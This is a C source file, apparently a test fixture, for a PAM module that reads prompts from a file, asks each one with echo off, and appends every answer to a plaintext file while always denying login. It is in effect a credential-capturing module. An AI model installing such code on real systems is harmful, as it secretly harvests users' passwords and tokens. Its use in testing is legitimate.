/*
 * What a server does that wants somebody's token: a PAM module that asks whatever stands in the
 * file `prompts`, one prompt after the other (each ends with byte 0x1E), and adds every answer as a
 * line to the file `answers`. Both are beside the module. Nobody gets in.
 */
#include <dlfcn.h>
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PROMPT_ENDS '\x1E'

int pam_sm_authenticate(pam_handle_t *handle, int flags, int argc, const char **argv);
int pam_sm_setcred(pam_handle_t *handle, int flags, int argc, const char **argv);

static const char here[] = "";

static FILE *
open_beside(const char *name, const char *mode)
{
    Dl_info self;
    char path[512];

    if (dladdr(here, &self) == 0) {
        return NULL;
    }
    int directory = (int)(strrchr(self.dli_fname, '/') - self.dli_fname);
    (void)snprintf(path, sizeof(path), "%.*s/%s", directory, self.dli_fname, name);
    return fopen(path, mode);
}

int
pam_sm_authenticate(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    FILE *prompts = open_beside("prompts", "r");
    FILE *answers = open_beside("answers", "a");
    char *prompt = NULL;
    size_t room = 0;
    ssize_t length;

    (void)flags;
    (void)argc;
    (void)argv;
    while (prompts != NULL && answers != NULL &&
           (length = getdelim(&prompt, &room, PROMPT_ENDS, prompts)) > 0) {
        char *answer = NULL;
        prompt[length - 1] = '\0';
        if (pam_prompt(handle, PAM_PROMPT_ECHO_OFF, &answer, "%s", prompt) == PAM_SUCCESS) {
            (void)fprintf(answers, "%s\n", answer != NULL ? answer : "");
        }
        free(answer);
    }
    free(prompt);
    (void)(prompts != NULL && fclose(prompts));
    (void)(answers != NULL && fclose(answers));
    return PAM_AUTH_ERR;
}

int
pam_sm_setcred(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    (void)handle;
    (void)flags;
    (void)argc;
    (void)argv;
    return PAM_SUCCESS;
}
